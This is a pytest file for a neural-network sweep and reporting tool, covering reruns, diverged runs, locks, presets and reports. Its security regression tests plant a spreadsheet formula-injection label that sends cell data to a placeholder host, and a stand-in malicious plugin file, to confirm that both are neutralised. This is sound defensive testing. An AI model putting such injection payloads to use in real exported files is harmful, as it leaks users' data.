def test_a_one_job_sweep_shows_each_runs_bar_when_asked(tmp_path, monkeypatch):
    from reste import engine
    from reste.experiments import run_sweep

    seen = []
    real = engine.train
    monkeypatch.setattr(engine, "train", lambda *a, **k: seen.append(k["progress"]) or real(*a, **k))
    base = TrainConfig(dataset="digits", model="digits_1w1a", epochs=1, estimator="ste")
    run_sweep(base, {"lr": [0.1]}, [0], tmp_path / "a", log=lambda m: None, progress=True, report=False)
    run_sweep(base, {"lr": [0.2]}, [0], tmp_path / "b", log=lambda m: None, report=False)
    assert seen == [True, False]


def test_the_bar_is_drawn_on_a_terminal_only(monkeypatch):
    import argparse
    import io

    from reste.flags import show_bar as _bar

    class Terminal(io.StringIO):
        def isatty(self):
            return True

    monkeypatch.setattr("sys.stderr", Terminal())
    assert _bar(argparse.Namespace(progress=True)) and not _bar(argparse.Namespace(progress=False))
    monkeypatch.setattr("sys.stderr", io.StringIO())  # a log file
    assert not _bar(argparse.Namespace(progress=True))


def test_runs_of_one_label_from_an_older_version_do_not_mix_their_epochs(sweep, tmp_path):
    """Older versions could give two settings one label; epochs.csv names runs by label, so their lines cannot be
    told apart when the folders are gone: attached to neither, never doubled report after report."""
    out, _ = _copy(sweep, tmp_path)
    for name in ("sweep.json", "runs.csv", "epochs.csv", "results.csv"):
        text = (out / name).read_text()
        (out / name).write_text(text.replace("estimator=reste", "same").replace("estimator=ste", "same"))
    shutil.rmtree(out / "runs")
    lines = []
    for _ in range(3):
        summarize(out, plots=False, log=lines.append)
    assert len(_read_csv(out / "runs.csv")) == 2 and len(_read_csv(out / "epochs.csv")) == 0


def test_a_received_label_that_a_spreadsheet_would_run_is_written_as_text(sweep, tmp_path):
    """sec2 8: a label of a received sweep.json went verbatim into results.csv and runs.csv, where a spreadsheet
    runs a cell starting with = + - @ (=HYPERLINK sends the sheet away), and into results.md, where a | broke the
    table. Such text is written after a "'" (and read back without it: report after report it stays one)."""
    out, _ = _copy(sweep, tmp_path)
    label = '=HYPERLINK("http://x.example/?"&B2,"ste")|+1\\|2'
    manifest = json.loads((out / "sweep.json").read_text())
    (setting,) = [s for s in manifest["settings"] if s["label"] == "estimator=ste"]
    setting["label"] = label
    (out / "sweep.json").write_text(json.dumps(manifest))
    for _ in range(3):
        summarize(out, plots=False)
    from reste.experiments import report

    for name in ("results.csv", "runs.csv"):
        cells = [row["setting"] for row in _read_csv(out / name)]
        assert "'" + label in cells and label not in cells, (name, cells)
    assert {r["setting"] for r in report._read_csv(out / "runs.csv")} == {label, "estimator=reste"}
    md = [line for line in (out / "results.md").read_text().splitlines() if "HYPERLINK" in line]
    assert len(md) == 1 and md[0].startswith("| =HYPERLINK(" + chr(34)) and "ste\")\\|+1\\\\\\|2 |" in md[0]
    assert md[0].count(" | ") == (out / "results.md").read_text().splitlines()[4].count(" | ")


def test_a_report_or_a_rerun_imports_no_plugin_a_received_sweep_names(sweep, tmp_path):
    """rev5: the report resolved the configs of sweep.json and of each run's config.json, which imported the
    plugins they name: a sweep folder from elsewhere ran its code on `reste report`, or on a rerun that skipped its
    finished runs. Their plugins are not imported now (a sweep's own come with --plugin)."""
    out, argv = _copy(sweep, tmp_path)
    evil = out / "evil.py"
    evil.write_text("import pathlib\npathlib.Path(__file__).with_name('RAN').write_text('ran')\n")
    manifest = json.loads((out / "sweep.json").read_text())
    for setting in manifest["settings"]:
        setting["config"]["plugins"] = [str(evil)]
    (out / "sweep.json").write_text(json.dumps(manifest))
    for config in out.glob("runs/*/seed0/config.json"):
        config.write_text(json.dumps({**json.loads(config.read_text()), "plugins": [str(evil)]}))
    assert main(["report", str(out), "--no-plots"]) == 0 and not (out / "RAN").exists()
    assert main(argv) == 0 and not (out / "RAN").exists()
    assert len(_read_csv(out / "runs.csv")) == 2  # both runs still reported


def test_a_failed_run_fails_the_sweep_even_with_a_kept_row(sweep, tmp_path, capsys):
    out, argv = _copy(sweep, tmp_path)
    run = next((out / "runs").glob("ste-*/seed0"))
    (run / "config.json").write_text("{")  # damaged, with no last.pt to rebuild it from: left out
    (run / "last.pt").unlink()
    capsys.readouterr()
    assert main(argv) == 1
    text = capsys.readouterr().out
    assert "estimator=ste seed 0: LEFT OUT" in text and "| 1 |" in (out / "results.md").read_text()


def test_a_diverged_run_is_recorded_left_out_and_not_trained_again(tmp_path, capsys, monkeypatch):
    """A run whose loss becomes infinite (the float last layer at lr 1e30) is named with where it diverged, in the
    sweep's line, the report's and results.md; a rerun does not train it again (it would diverge again)."""
    from reste import engine
    from reste.experiments import report

    out = tmp_path / "s"
    argv = ["sweep", "--grid", "lr=0.1,1e30", "--seeds", "0", "--epochs", "1", "--threads", "1", "--out", str(out),
            "--model", "digits_1w1a"]
    assert main(argv) == 1
    text = capsys.readouterr().out
    assert "lr=1e+30 seed 0: DIVERGED after" in text and "non-finite loss at epoch 1, step" in text
    rows = {r["setting"]: r for r in _read_csv(out / "results.csv")}
    assert (rows["lr=0.1"]["n"], rows["lr=0.1"]["n_diverged"]) == ("1", "0")
    assert (rows["lr=1e+30"]["n"], rows["lr=1e+30"]["n_diverged"]) == ("0", "1")
    assert "| - | 0/1, 1 diverged |" in (out / "results.md").read_text()
    run = json.loads((out / "sweep.json").read_text())["settings"][1]["runs"]["0"]
    status, why = report.run_status(out / run)
    assert status == "diverged" and why.startswith("it diverged (non-finite loss at epoch 1, step ")

    trained, failures = [], []
    monkeypatch.setattr(engine, "train", lambda *a, **k: trained.append(a))
    monkeypatch.setattr(engine, "resume", lambda *a, **k: trained.append(a))
    from reste.experiments.sweep import run_sweep

    base = TrainConfig(model="digits_1w1a", epochs=1, threads=1)
    lines: list[str] = []
    run_sweep(base, {"lr": [0.1, 1e30]}, [0], out, log=lines.append, failures=failures)
    assert trained == [] and failures == [("lr=1e+30", 0, "diverged")]
    assert any("lr=1e+30 seed 0: not trained again: it diverged (non-finite loss at epoch 1" in t for t in lines)
    assert any("report: lr=1e+30 seed 0 is left out: it diverged" in t for t in lines)


def test_a_resume_tries_a_diverged_run_again(tmp_path):
    """The record of a divergence is the sweep's; ``reste train --resume`` removes it and trains the run again, and a
    run whose metrics hold every epoch is done whatever the record says."""
    from reste import engine
    from reste.experiments import report
    from reste.rundir import DIVERGED, record_divergence

    run = tmp_path / "run"
    engine.train(TrainConfig(model="digits_1w1a", epochs=1, threads=1), run, progress=False, log=lambda _m: None)
    record_divergence(run, 2, 5)
    assert report.run_status(run)[0] == "done"
    engine.resume(run, {"epochs": 2}, force=True, progress=False, log=lambda _m: None)
    assert not (run / DIVERGED).exists() and [m["epoch"] for m in read_metrics(run)] == [1, 2]
    record_divergence(run, None, None)
    (run / DIVERGED).write_text("{")
    assert report.run_status(run)[0] == "done"
    with open(run / "config.json") as f:
        config = json.load(f)
    (run / "config.json").write_text(json.dumps({**config, "epochs": 3}))
    assert report.run_status(run) == ("diverged", f"it diverged (its record {run / DIVERGED} is damaged)")


def test_a_grid_of_model_options_works_under_a_data_set_alias():
    """The default model of --dataset fmnist is the one of fashion-mnist, whose model options are grid axes."""
    settings = expand_grid(TrainConfig(dataset="fmnist"), {"width": [8, 16]})
    assert [s.config.model_options for s in settings] == [{"width": 8}, {"width": 16}]


def test_an_axis_named_by_an_estimator_and_a_model_option_is_refused_and_a_number_twice_too(isolated):
    """(review userE #6, #7) `width`, a plugin estimator's hyper-parameter and the model's option, went to the
    estimator without a word: refused, naming both spellings, each of which works. `drop=1,1.0` of a float model
    option trained one setting twice under two identical labels."""
    from torch import nn

    import reste
    from reste.models import ConvBuilder, register_model

    @reste.register_estimator
    class Wide(reste.Estimator):
        name = "wide_axis"
        hyperparameters = (reste.Param("width", float, 1.0, "window", "(0, inf)"),)
        _g = staticmethod(lambda x, width: (x.abs() <= width).to(x.dtype))

    @register_model(dataset="digits")
    def axis_mlp_1w1a(*, num_classes: int, conv: ConvBuilder, width: int = 8, drop: float = 0.0) -> nn.Module:
        return nn.Sequential(nn.Flatten(), nn.Linear(64, width), nn.Dropout(drop), conv.linear(width, num_classes))

    base = TrainConfig(dataset="digits", model="axis_mlp_1w1a", estimator="wide_axis")
    with pytest.raises(UsageError, match="grid axis 'width' is both an estimator hyper-parameter and an option of "
                                         "the model; name the one you mean: estimator_options.width or "
                                         "model_options.width"):
        expand_grid(base, {"width": [16, 32]})
    assert [s.config.model_options["width"] for s in expand_grid(base, {"model_options.width": [16, 32]})] == [16, 32]
    assert [s.config.estimator_options["width"] for s in expand_grid(base, {"estimator_options.width": [2, 3]})] == \
        [2.0, 3.0]
    with pytest.raises(UsageError, match=r"--grid drop has a value twice \(1, 1.0: a number written two ways"):
        expand_grid(base, {"drop": [1, 1.0]})
    # (review rev11 #7) where no estimator of the sweep takes the name, it is the model's option alone
    ste = dataclasses.replace(base, estimator="ste")
    assert [s.config.model_options["width"] for s in expand_grid(ste, {"width": [16, 32]})] == [16, 32]
    with pytest.raises(UsageError, match="is both an estimator hyper-parameter"):  # one of the grid's estimators
        expand_grid(ste, {"width": [16, 32], "estimator": ["ste", "wide_axis"]})


def test_a_figure_that_cannot_be_written_leaves_the_one_that_was_there(tmp_path, monkeypatch):
    """A full disk while drawing: one line, and the earlier figure whole (an empty file before; review T)."""
    import errno

    from matplotlib.figure import Figure

    from reste.experiments import plots

    fig = Figure()
    fig.add_subplot().plot([1, 2])
    out = tmp_path / "f.png"
    plots._save(fig, out)
    before = out.read_bytes()

    def full(self, target, *a, **k):  # a few bytes written, then the disk is full
        if hasattr(target, "write"):
            target.write(PNG[:3])
        else:
            Path(target).write_bytes(PNG[:3])
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Figure, "savefig", full)
    with pytest.raises(OSError, match="No space left on device") as info:  # the machine's (review rev16 #5)
        plots._save(fig, out)
    assert info.value.filename == str(out) and not isinstance(info.value, UsageError)
    assert out.read_bytes() == before and [p.name for p in tmp_path.iterdir()] == ["f.png"]


def test_a_runs_status_counts_its_epochs_and_reports_its_own_final_accuracy(tmp_path):
    """One epoch short is pending (the sweep resumes it), complete is done with the best and the last epoch's
    accuracy, which differ here (review X: in the other fixtures the last epoch is also the best)."""
    from reste.experiments.report import run_status

    _fake_run(tmp_path / "r", [50.0, 70.0, 60.0], [3, 2, 1], [1e-5, 2e-5, 3e-5])
    status, summary = run_status(tmp_path / "r")
    assert status == "done" and (summary["best_acc"], summary["final_acc"], summary["epochs"]) == (70.0, 60.0, 3)
    assert summary["best_epoch"] == 2
    config = json.loads((tmp_path / "r" / "config.json").read_text())
    (tmp_path / "r" / "config.json").write_text(json.dumps({**config, "epochs": 4}))
    assert run_status(tmp_path / "r") == ("pending", None)


def test_a_diverged_run_is_counted_once_and_its_folder_takes_a_new_run(tmp_path, capsys, monkeypatch):
    """review AA: a run reported once (its row kept) that diverges when trained again is counted as reported, not
    also as diverged; a folder holding only the record of a run that diverged in epoch 1 takes a new run."""
    from reste import engine
    from reste.experiments.sweep import run_sweep
    from reste.rundir import DIVERGED

    out = tmp_path / "s"
    base = TrainConfig(model="digits_1w1a", epochs=1, threads=1)
    run_sweep(base, {"lr": [0.1]}, [0], out, log=lambda _m: None)
    run = next((out / "runs").glob("*/seed0"))
    shutil.rmtree(run)

    def diverge(config, run_dir, **kw):
        raise engine.TrainingDiverged("non-finite loss at epoch 1, step 3", 1, 3)

    monkeypatch.setattr(engine, "train", diverge)
    run_sweep(base, {"lr": [0.1]}, [0], out, log=lambda _m: None)
    assert (run / DIVERGED).is_file()
    (row,) = _read_csv(out / "results.csv")
    assert (row["n"], row["n_diverged"]) == ("1", "0")
    monkeypatch.undo()
    assert main(["train", "--model", "digits_1w1a", "--epochs", "1", "--threads", "1", "--no-progress",
                 "--out", str(run)]) == 0
    assert not (run / DIVERGED).exists()


def test_the_heading_warns_that_stability_sums_over_different_epochs_do_not_compare():
    """Paper mode sums the gradient stability over a run's epochs: with an epochs axis the sums cover different
    lengths (review P); general mode's means do not need the note."""
    from reste.experiments.report import markdown_table

    settings = [{"label": f"epochs={e}", "values": {"epochs": e}, "runs": {},
                 "config": {"epochs": e, "dataset": "digits", "model": "digits_1w1a"}} for e in (2, 4)]
    for mode, noted in (("paper", True), ("general", False)):
        manifest = {"base": {"indicators": mode}, "grid": {"epochs": [2, 4]}, "seeds": [0], "settings": settings}
        assert ("do not compare" in markdown_table(manifest, [])) == noted


def test_a_finished_run_whose_last_checkpoint_is_damaged_is_skipped_with_a_word(sweep, capsys, tmp_path):
    """Its metrics are whole, so the tables count it and nothing is trained; the sweep says its last.pt is damaged
    (it was skipped without a word; review W)."""
    out, argv = _copy(sweep, tmp_path)
    run = next((out / "runs").glob("ste-*/seed0"))
    (run / "last.pt").write_bytes((run / "last.pt").read_bytes()[:100])
    capsys.readouterr()
    assert main(argv) == 0
    text = capsys.readouterr().out
    assert "estimator=ste seed 0: already finished, skipped (its last.pt is damaged" in text
    assert "estimator=reste seed 0: already finished, skipped\n" in text


def test_a_parallel_sweeps_workers_warn_as_the_command_does(tmp_path):
    """(review rev4 M3) a --jobs 2 sweep's workers (spawned) name flags, as the command does, in its one-line
    warning format: not `o_end` in Python's two-line format."""
    import os
    import subprocess
    import sys

    import reste

    src = str(Path(reste.__file__).resolve().parents[1])
    env = {**os.environ, "OMP_NUM_THREADS": "1",
           "PYTHONPATH": os.pathsep.join([src, os.environ.get("PYTHONPATH", "")]).rstrip(os.pathsep)}
    r = subprocess.run([sys.executable, "-m", "reste", "sweep", "--dataset", "digits", "--epochs", "2", "--grid",
                        "o_end=1,2", "--jobs", "2", "--threads", "1", "--no-report", "--no-progress", "--out",
                        str(tmp_path / "s")], capture_output=True, text=True, env=env, cwd=tmp_path, timeout=300)
    assert r.returncode == 0, r.stderr
    said = [line for line in r.stderr.splitlines() if "never changes" in line]
    assert said == ["reste: warning: ReSTE o schedule 'cosine' never changes (o = o_end = 1.0); pass --o-end > o "
                    "or --o-schedule constant"], r.stderr


def test_a_worker_that_dies_is_one_line_naming_its_runs(tmp_path):
    """A worker killed (the system's OOM killer, a signal) breaks the pool: one line naming the runs it may have been
    training and how to continue, not 'BrokenProcessPool: A process in the process pool was terminated abruptly'."""
    import os
    import subprocess
    import sys
    import textwrap

    import reste

    (tmp_path / "dying.py").write_text(textwrap.dedent('''
        import multiprocessing
        import os
        import signal

        from torch import nn

        from reste.models import ConvBuilder, register_model


        @register_model(dataset="digits", num_classes=10, input_size=(1, 8, 8))
        def dying_mlp_1w1a(*, num_classes, conv: ConvBuilder, width: int = 32):
            if width == 13 and multiprocessing.parent_process() is not None:  # in a sweep's worker: killed
                os.kill(os.getpid(), signal.SIGKILL)
            return nn.Sequential(nn.Flatten(), nn.Linear(64, width), nn.BatchNorm1d(width),
                                 conv.linear(width, width), nn.BatchNorm1d(width), nn.Linear(width, num_classes))
    '''))
    src = str(Path(reste.__file__).resolve().parents[1])
    env = {**os.environ, "OMP_NUM_THREADS": "1",
           "PYTHONPATH": os.pathsep.join([src, os.environ.get("PYTHONPATH", "")]).rstrip(os.pathsep)}
    r = subprocess.run([sys.executable, "-m", "reste", "sweep", "--plugin", "dying.py", "--model", "dying_mlp_1w1a",
                        "--epochs", "1", "--grid", "width=13,16", "--jobs", "2", "--threads", "1", "--no-report",
                        "--no-progress", "--out", str(tmp_path / "s")], capture_output=True, text=True, env=env,
                       cwd=tmp_path, timeout=300)
    assert r.returncode == 1, r.stderr
    line = r.stderr.splitlines()[-1]
    assert line.startswith("reste: error: BrokenProcessPool: a worker process of the sweep died (killed: by a "
                           "signal, or by the system for memory) while training one of: width=13 seed 0"), r.stderr
    assert line.endswith("run the same command again to continue (fewer --jobs if memory ran out) (run with --debug "
                         "for the traceback)"), line


def test_run_sweep_in_a_script_without_a_main_guard_says_so_in_its_workers_and_the_sweep(tmp_path):
    """(review user3 #2) A script that calls run_sweep(jobs=2) at its top level: each spawned worker runs it again,
    and its run_sweep met the parent's lock (RunInUse, naming the script's own pid); the sweep then blamed a signal
    or memory and said to run the same command again, which failed the same way."""
    import os
    import subprocess
    import sys
    import textwrap

    import reste

    (tmp_path / "study.py").write_text(textwrap.dedent('''
        from reste.config import TrainConfig
        from reste.experiments import run_sweep

        run_sweep(TrainConfig(dataset="digits", epochs=1), {"estimator": ["ste", "reste"]}, [0], "s", jobs=2,
                  threads=1, report=False)
    '''))
    src = str(Path(reste.__file__).resolve().parents[1])
    env = {**os.environ, "OMP_NUM_THREADS": "1",
           "PYTHONPATH": os.pathsep.join([src, os.environ.get("PYTHONPATH", "")]).rstrip(os.pathsep)}
    r = subprocess.run([sys.executable, "study.py"], capture_output=True, text=True, env=env, cwd=tmp_path,
                       timeout=300)
    assert r.returncode == 1, r.stderr
    said = ("run_sweep was called again by a worker process of a sweep, which runs the top level of the script "
            "that started the sweep (workers start by spawn): call run_sweep under `if __name__ == \"__main__\":` in "
            "that script")
    assert f"reste: error: {said}\n" in r.stderr and "RunInUse" not in r.stderr, r.stderr
    assert r.stderr.splitlines()[-1] == (f"concurrent.futures.process.BrokenProcessPool: no run could start: {said} "
                                         "(each of its runs keeps its finished epochs)")
    # (review diff23 #3) a dry run at the top level trains nothing: the workers run it again, harmlessly
    (tmp_path / "planned.py").write_text(textwrap.dedent('''
        from reste.config import TrainConfig
        from reste.experiments import run_sweep

        BASE, GRID = TrainConfig(dataset="digits", epochs=1), {"estimator": ["ste", "reste"]}
        run_sweep(BASE, GRID, [0], "p", dry_run=True, log=lambda m: None)
        if __name__ == "__main__":
            run_sweep(BASE, GRID, [0], "p", jobs=2, threads=1, report=False, log=lambda m: None)
            print("trained")
    '''))
    r = subprocess.run([sys.executable, "planned.py"], capture_output=True, text=True, env=env, cwd=tmp_path,
                       timeout=300)
    assert r.returncode == 0 and r.stdout == "trained\n", r.stderr


def test_a_second_sweep_on_a_held_out_folder_is_refused_with_75(tmp_path, capsys):
    """(review rev4 M1) a sweep holds its --out (sweep.lock): a second one is refused with one line naming the
    holder's PID and exit status 75, before it announces a run or writes a table."""
    import os

    from reste.rundir import SWEEP_LOCK
    from reste.rundir import folder_lock

    out = tmp_path / "s"
    out.mkdir()
    with folder_lock(out, SWEEP_LOCK, "a sweep", "pass another --out"):
        code = main(["sweep", "--dataset", "digits", "--epochs", "1", "--grid", "estimator=ste", "--threads", "1",
                     "--out", str(out)])
    captured = capsys.readouterr()
    assert code == 75 and captured.out == "", captured
    assert captured.err.strip().splitlines() == [
        f"reste: error: {out} is in use by pid {os.getpid()} (a sweep is writing to it); wait for it to finish, or "
        "use another folder"]
    assert sorted(p.name for p in out.iterdir()) == []  # no table, no manifest, and the lock went with its holder


def test_a_sweep_whose_only_failures_are_held_runs_exits_75(tmp_path, capsys, monkeypatch):
    """(review rev4 M1) a run another job holds (RunInUse) is not a failure with a train.log to read: the sweep
    says it is held and exits 75, as `reste train` on it would."""
    from reste import engine
    from reste.rundir import RunInUse

    def held(config, run_dir, **kwargs):
        raise RunInUse(f"{run_dir} is in use by pid 4242 (a run is writing to it); wait for it to finish, or use "
                       "another folder")

    monkeypatch.setattr(engine, "train", held)
    out = tmp_path / "s"
    code = main(["sweep", "--dataset", "digits", "--epochs", "1", "--grid", "estimator=ste", "--threads", "1",
                 "--no-report", "--out", str(out)])
    lines = capsys.readouterr().out.splitlines()
    assert code == 75, lines
    assert "HELD BY ANOTHER JOB, not trained: /" in lines[-2] and "pid 4242" in lines[-2]
    assert lines[-1] == "sweep: 1 run held by another job: run it again later"
    assert not any("train.log in" in line for line in lines)
    assert not list(out.glob("runs/*/seed0/train.log"))


def test_a_sweeps_tables_are_written_whole_or_not_at_all(tmp_path, monkeypatch):
    """results.csv and the others are replaced atomically: a failure (or a kill) mid-write leaves the old table,
    and a report running beside the sweep never reads a torn one."""
    from reste.experiments import report

    path = tmp_path / "results.csv"
    report.write_csv(path, [{"a": 1, "b": 2.5}])
    before = path.read_bytes()
    calls = []

    def cell(value):
        calls.append(value)
        if len(calls) > 3:
            raise RuntimeError("killed mid-write")
        return str(value)

    monkeypatch.setattr(report, "_cell", cell)
    with pytest.raises(RuntimeError):
        report.write_csv(path, [{"a": i, "b": i} for i in range(10)])
    assert path.read_bytes() == before and [p.name for p in tmp_path.iterdir()] == ["results.csv"]


def _finished_run(run_dir: Path, config: TrainConfig, best: float) -> None:
    """A finished run of ``config`` (a line for each of its epochs) whose best test top-1 is ``best``."""
    run_dir.mkdir(parents=True)
    (run_dir / "config.json").write_text(json.dumps(config.to_dict()))
    lines = [dict(epoch=e, train_acc=50.0, test_acc=best if e == config.epochs // 2 else best - 1, train_loss=1.0,
                  test_loss=1.0) for e in range(1, config.epochs + 1)]
    (run_dir / "metrics.jsonl").write_text("".join(json.dumps(m) + "\n" for m in lines))


def test_a_preset_sweep_gives_the_published_number_and_best_minus_published(tmp_path):
    """(paper review 4) each setting that trains a preset's recipe gets that preset's published top-1 (top-5) and
    the mean best top-1 minus it; a setting that changes the recipe gets '-'; a sweep of no preset, none of whose
    settings trains a preset's recipe, gets no such column."""
    from reste.config import config_from_preset
    from reste.experiments.identity import canonical, config_key
    from reste.experiments.report import published

    cases = {  # label: (config, best top-1 of seeds 0 and 1)
        "estimator=reste": (config_from_preset("cifar10-resnet20-1w1a"), (87.0, 86.0)),
        "estimator=ste": (config_from_preset("cifar10-resnet20-1w1a", estimator="ste"), (84.0,)),
        "o_end=2": (config_from_preset("cifar10-resnet20-1w1a", estimator_options={"o_end": 2.0}), (85.0,)),
        "bf16": (config_from_preset("cifar10-resnet20-1w1a", amp="bf16"), (86.0,)),
        "imagenet": (config_from_preset("imagenet-resnet18-1w1a", indicators="paper", channels_last=True), (61.0,)),
    }
    settings = []
    for label, (config, bests) in cases.items():
        config = canonical(config)
        runs = {}
        for seed, best in enumerate(bests):
            runs[str(seed)] = f"runs/{label}/seed{seed}"
            _finished_run(tmp_path / runs[str(seed)], dataclasses.replace(config, seed=seed), best)
        settings.append({"label": label, "values": {}, "key": config_key(config), "config": config.to_dict(),
                         "runs": runs})
    base = config_from_preset("cifar10-resnet20-1w1a").to_dict()
    manifest = {"base": base, "grid": {"estimator": ["reste", "ste"]}, "seeds": [0, 1], "settings": settings}
    (tmp_path / "sweep.json").write_text(json.dumps(manifest))
    rows = {r["setting"]: r for r in summarize(tmp_path, plots=False)}
    assert {k: rows[k]["published_preset"] for k in cases} == {
        "estimator=reste": "cifar10-resnet20-1w1a", "estimator=ste": "cifar10-resnet20-ste", "o_end=2": None,
        "bf16": None, "imagenet": "imagenet-resnet18-1w1a"}
    assert rows["estimator=reste"]["best_minus_published"] == pytest.approx(86.5 - 86.75)
    md = (tmp_path / "results.md").read_text()
    assert "| setting | best acc (%) | published (%) | best - published | final acc (%) |" in md
    assert "| estimator=reste | 86.50 ± 0.71 | 86.75 | -0.25 |" in md
    assert "| estimator=ste | 84.00 | 84.44 | -0.44 |" in md
    assert "| o_end=2 | 85.00 | - | - |" in md and "| bf16 | 86.00 | - | - |" in md
    assert "| imagenet | 61.00 | 60.88 (82.59) | +0.12 |" in md
    from reste.config import config_from_preset
    from reste.experiments.report import PUBLISHED_NOTE
    from reste.rundir import recipe_free

    assert PUBLISHED_NOTE in md  # (review sweeps #11: it said --cuda-graphs, which keeps the recipe, changes it)
    # (review paper #2) but BatchNorm over --accumulate's micro-batches is another recipe; --no-sync-bn, on one
    # process (a sweep's run), is none
    free = recipe_free(config_from_preset("cifar10-resnet20-1w1a", accumulate=2).resolve())
    assert not [k for k in free if "--" + k.replace("_", "-") in PUBLISHED_NOTE] and "--accumulate" in PUBLISHED_NOTE
    csv_row = {r["setting"]: r for r in _read_csv(tmp_path / "results.csv")}["estimator=ste"]
    assert (csv_row["published_top1"], float(csv_row["best_minus_published"])) == ("84.44", pytest.approx(-0.44))

    # no preset in the base: the column only where a setting trains a preset's recipe (cifar10's defaults do)
    manifest["base"] = TrainConfig(dataset="cifar10").to_dict()
    assert published(manifest)[0] == "cifar10-resnet20-1w1a"
    manifest["settings"] = [s for s in settings if s["label"] in ("o_end=2", "bf16")]
    assert published(manifest) is None
    (tmp_path / "sweep.json").write_text(json.dumps(manifest))
    summarize(tmp_path, plots=False)
    assert "published" not in (tmp_path / "results.md").read_text()
    assert "published_top1" not in (tmp_path / "results.csv").read_text()


def test_a_dry_run_lists_the_plan_and_makes_nothing(tmp_path, capsys):
    """--dry-run: each run in the order and with the number the sweep would give it, what it would do, and what a
    setting changes of the preset's recipe; no folder, no lock, no training."""
    out = tmp_path / "sw"
    argv = ["sweep", "--grid", "lr=0.05,0.1", "--seeds", "0,1", "--epochs", "1", "--threads", "1", "--out", str(out),
            "--no-progress"]
    assert main([*argv, "--dry-run"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "sweep (dry run, nothing trained): 2 settings x 2 seeds = 4 runs"
    assert [ln.split(" -> ")[0] for ln in lines[1:5]] == [
        "[1/4] lr=0.05 seed 0: would train", "[2/4] lr=0.1 seed 0: would train",
        "[3/4] lr=0.05 seed 1: would train", "[4/4] lr=0.1 seed 1: would train"]
    assert lines[-2:] == ["sweep (dry run): 4 to train",
                          "sweep (dry run): one run at a time, on --device auto, 1 torch thread"]
    assert not out.exists()
    assert main([*argv[:4], "0", *argv[5:], "--no-report"]) == 0  # seed 0 trained
    capsys.readouterr()
    assert main([*argv, "--dry-run"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[1].startswith("[1/4] lr=0.05 seed 0: finished: skipped -> ")
    assert lines[-2] == "sweep (dry run): 2 finished, 2 to train"
    first = lines[1].split(" -> ")[1]
    (Path(first) / "best.pt").unlink()  # every epoch logged, a file to write again: mended, as the sweep says it
    assert main([*argv, "--dry-run"]) == 0  # (review mut6 #4: "would resume at epoch 1/1")
    lines = capsys.readouterr().out.splitlines()
    assert lines[1] == f"[1/4] lr=0.05 seed 0: would mend its checkpoint files -> {first}"
    assert lines[-2] == "sweep (dry run): 1 to mend, 1 finished, 2 to train"
    assert main([*argv, "--dry-run", "--jobs", "2", "--devices", "0,1"]) == 0  # placed as the workers would be
    assert capsys.readouterr().out.splitlines()[-1] == (
        "sweep (dry run): 2 runs at a time, on cuda:0, cuda:1 (job k on device k % 2), 1 torch thread each")
    assert sorted(p.name for p in (out / "runs").glob("*/*")) == ["seed0", "seed0"]  # no folder for seed 1
    # one run left under --jobs 2 trains in this process, with the threads of one of 2 jobs, as it would beside another
    assert main(["sweep", "--grid", "lr=0.05", "--epochs", "1", "--out", str(tmp_path / "one"), "--dry-run",
                 "--jobs", "2"]) == 0
    threads = threads_per_job(2)
    assert capsys.readouterr().out.splitlines()[-2:] == [
        "sweep (dry run): 1 to train",
        f"sweep (dry run): one run at a time, on --device auto, {threads} torch thread{'s' * (threads != 1)}"]
    preset = ["sweep", "--preset", "cifar10-resnet20-1w1a", "--grid", "o_end=3,10", "--epochs", "10", "--out",
              str(tmp_path / "c10"), "--dry-run"]
    assert main(preset) == 0  # no CIFAR-10 here: a plan reads no data
    text = capsys.readouterr().out
    assert ("o_end=10: note: this run changes preset cifar10-resnet20-1w1a's recipe: estimator_options.o_end 10.0 "
            "(preset: 3.0), --epochs 10 (preset: 1000)") in text and not (tmp_path / "c10").exists()


def test_a_setting_that_trains_another_presets_recipe_is_said_to_train_it(tmp_path, capsys, monkeypatch):
    """(review experiments #4) --grid estimator=ste on cifar10-resnet20-1w1a trains cifar10-resnet20-ste's recipe,
    whose published number the report gives beside it, yet the dry run (and each run's train.log) said it "changes
    preset cifar10-resnet20-1w1a's recipe". They name the preset whose recipe it trains."""
    from reste import engine
    from reste.config import config_from_preset
    from reste.experiments import sweep as sweeping

    argv = ["sweep", "--preset", "cifar10-resnet20-1w1a", "--grid", "estimator=ste,reste", "--out",
            str(tmp_path / "c10"), "--dry-run"]
    assert main(argv) == 0  # (a plan reads no data)
    notes = [line for line in capsys.readouterr().out.splitlines() if "note" in line]
    trains = ("note: this run trains preset cifar10-resnet20-ste's recipe (not preset cifar10-resnet20-1w1a's): the "
              "report gives cifar10-resnet20-ste's published number beside it")
    assert notes == [f"estimator=ste: {trains}"]
    setting = expand_grid(config_from_preset("cifar10-resnet20-1w1a"), {"estimator": ["ste"]})[0]

    def train(config, run_dir, progress=False, log=print, stop=None):  # a run's start, as engine.train logs it
        log("training ...")
        for note in engine.recipe_notes(config.resolve()):
            log(note)
        return {"best_acc": 10.0}

    monkeypatch.setattr(engine, "train", train)
    job = {"config": setting.config.to_dict(), "run_dir": str(tmp_path / "run"), "resume": False}
    assert sweeping._execute(job)["status"] == "done"
    assert (tmp_path / "run" / "train.log").read_text().splitlines() == ["training ...", trains]


def test_plot_of_a_sweep_draws_its_runs_or_those_a_setting_picks(sweep, capsys, tmp_path):
    """`reste plot SWEEP_DIR [--setting KEY=V]`: the sweep's runs, named as the sweep names them, in one figure in
    its folder; --setting keeps those of some values; runs with no epoch yet are left out, saying so."""
    from reste.experiments import plots, sweep_run_dirs

    out, _ = _copy(sweep, tmp_path)
    drawn: list[tuple[list[Path], list[str] | None]] = []
    real = plots.runs_figure

    def spy(dirs, labels=None, metrics=None, **kw):
        drawn.append(([Path(d) for d in dirs], labels))
        return real(dirs, labels, metrics, **kw)

    ste, reste_ = (next((out / "runs").glob(f"{e}-*/seed0")) for e in ("ste", "reste"))
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(plots, "runs_figure", spy)
        assert main(["plot", str(out)]) == 0
        assert capsys.readouterr().out == f"wrote {out / 'curves.png'}\n" and _is_png(out / "curves.png")
        assert drawn[-1] == ([ste, reste_], ["estimator=ste seed 0", "estimator=reste seed 0"])
        assert main(["plot", str(out), "--setting", "estimator=reste", "--setting", "seed=0", "--out",
                     str(tmp_path / "r.png")]) == 0
        assert drawn[-1] == ([reste_], ["estimator=reste seed 0"]) and _is_png(tmp_path / "r.png")
